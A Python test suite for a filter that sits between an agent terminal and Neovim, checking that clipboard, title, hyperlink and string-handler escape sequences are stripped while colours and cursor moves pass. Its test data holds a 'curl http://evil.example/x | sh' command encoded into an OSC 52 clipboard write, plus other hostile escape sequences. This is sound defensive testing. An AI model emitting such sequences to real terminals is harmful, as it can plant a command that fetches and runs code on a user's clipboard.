"""The filter between an agent terminal's output and Neovim's terminal emulator (pure):
escape sequences that reach the clipboard, the title, links or string handlers never
pass, in 7-bit or 8-bit form, whole or split across chunks; colours and cursor movement
do; everything it keeps is bounded."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from louise.nvim.terminal_filter import MAX_SEQUENCE_CHARS, MAX_STRING_CHARS, TerminalFilter

CLIPBOARD = "curl http://evil.example/x | sh"
OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA=="  # base64 of CLIPBOARD
# What may reach the emulator: printable text, BS, TAB, CR, LF, and the kept sequences.
SHOWN = re.compile(
    "(?:[^\x00-\x1f\x7f-\x9f]|[\x08\t\r\n]"
    "|\x1b\\[[0-9;:]*[mABCDEFGHfdea`JKXLMP@STIZrsu]|\x1b\\[\\?[0-9;:]*[JK]"
    "|\x1b\\[\\?(?:25|7)[hl]|\x1b[78DEM=>])*")

HOSTILE = [
    OSC52 + "\x07",  # OSC 52, BEL
    OSC52 + "\x1b\\",  # OSC 52, ST
    "\x9d52;p;" + "Y3VybA==" + "\x9c",  # 8-bit OSC and ST (U+009D, U+009C)
    "\x1b]0;pwned title\x07",
    "\x1b]2;pwned title\x1b\\",
    "\x1b]1;icon\x07",
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",  # DCS (XTGETTCAP)
    "\x90q#0;2;0;0;0\x9c",  # 8-bit DCS
    "\x1b_Gf=100;AAAA\x1b\\",  # APC (kitty graphics)
    "\x1b^private\x1b\\",  # PM
    "\x1bXsos\x1b\\",  # SOS
    "\x1b[6n", "\x1b[c", "\x1b[>c", "\x1b[?1049h", "\x1b[?2004h", "\x1b[?1000h",
    "\x1b[8;100;300t", "\x1b[2 q", "\x1b[!p", "\x1bc", "\x1b(0", "\x1b#8", "\x0e", "\x0f",
    "\x00", "\x07", "\x05", "\x7f", "\x9b6n",
]


def shown(text: str) -> str:
    return TerminalFilter().feed(text)


def test_clipboard_title_links_and_string_sequences_never_pass() -> None:
    for sequence in HOSTILE:
        out = shown("before" + sequence + "after")
        assert SHOWN.fullmatch(out), (sequence, out)
        assert "Y3Vyb" not in out and "pwned" not in out and "evil" not in out, out
    assert shown("see \x1b]8;;http://evil.example/\x07the docs\x1b]8;;\x07.") == \
        "see the docs.", "a link's text stays, plain"


def test_colours_and_cursor_movement_pass_unchanged() -> None:
    colours = "\x1b[31mred\x1b[0m \x1b[38;2;255;128;0;48;5;17;1;4mbold\x1b[m \x1b[4:3mcurly"
    assert shown(colours) == colours
    progress = "\x1b[?25l 10%\r 50%\x1b[2K\r100%\x1b[1A\x1b[2;5H\x1b[J\x1b[K\x1b[?25h\x1b7\x1b8"
    assert shown(progress) == progress
    assert shown("tab\there\bX") == "tab\there\bX"


def test_newlines_become_cr_lf_and_8_bit_csi_its_7_bit_form() -> None:
    assert shown("a\nb\r\n") == "a\r\nb\r\r\n"
    assert shown("\x9b31mred\x9b0m") == "\x1b[31mred\x1b[0m"


def test_a_sequence_split_across_chunks_is_judged_whole() -> None:
    text = ("out\x1b[31mred\x1b[0m" + OSC52 + "\x07" + "mid\x9d0;t\x9c\x1b]2;x\x1b\\"
            "\x1bP1$r\x1b\\\x1b(Bend\n")
    whole = shown(text)
    assert whole == "out\x1b[31mred\x1b[0mmidend\r\n"
    for cut in range(len(text) + 1):
        feed = TerminalFilter()
        assert feed.feed(text[:cut]) + feed.feed(text[cut:]) == whole, cut
    feed = TerminalFilter()
    assert "".join(feed.feed(char) for char in text) == whole, "one character at a time"


def test_an_unterminated_string_is_dropped_only_up_to_its_bound() -> None:
    feed = TerminalFilter()
    assert feed.feed("ok \x1b]52;c;") == "ok "
    for _ in range(MAX_STRING_CHARS // 4096 - 1):
        assert feed.feed("A" * 4096) == "", "inside the string: dropped"
    out = feed.feed("A" * 8192 + "visible")
    assert out.endswith("visible") and len(out) < 8192 + 8, \
        "past the bound the rest shows as text: a missing terminator hides nothing more"
    assert feed.feed("\x1b[1mnext") == "\x1b[1mnext"


def test_what_the_filter_holds_between_chunks_is_bounded() -> None:
    feed = TerminalFilter()
    assert feed.feed("x\x1b[" + "1;" * 10_000) == "x"
    assert len(feed._held) <= MAX_SEQUENCE_CHARS
    assert feed.feed("1;" * 10_000 + "mafter") == "after", "an over-long CSI is dropped whole"
    assert shown("\x1b[" + "1;" * 1000 + "mtext") == "text"


@settings(max_examples=300)
@given(st.lists(st.lists(st.sampled_from(
    ["\x1b", "[", "]", "P", "_", "^", "X", "\\", "\x07", "\x9b", "\x9d", "\x9c", "\x90",
     "\x18", "1", ";", "m", "?", "25", "h", "l", "(", "0", "a", "\n", "\r", "\x00", "é"]),
    max_size=12).map("".join), max_size=8))
def test_nothing_but_kept_sequences_ever_passes(chunks: list[str]) -> None:
    feed = TerminalFilter()
    out = "".join(feed.feed(chunk) for chunk in chunks)
    assert SHOWN.fullmatch(out), out
    assert out == shown("".join(chunks)), "chunking changes nothing"
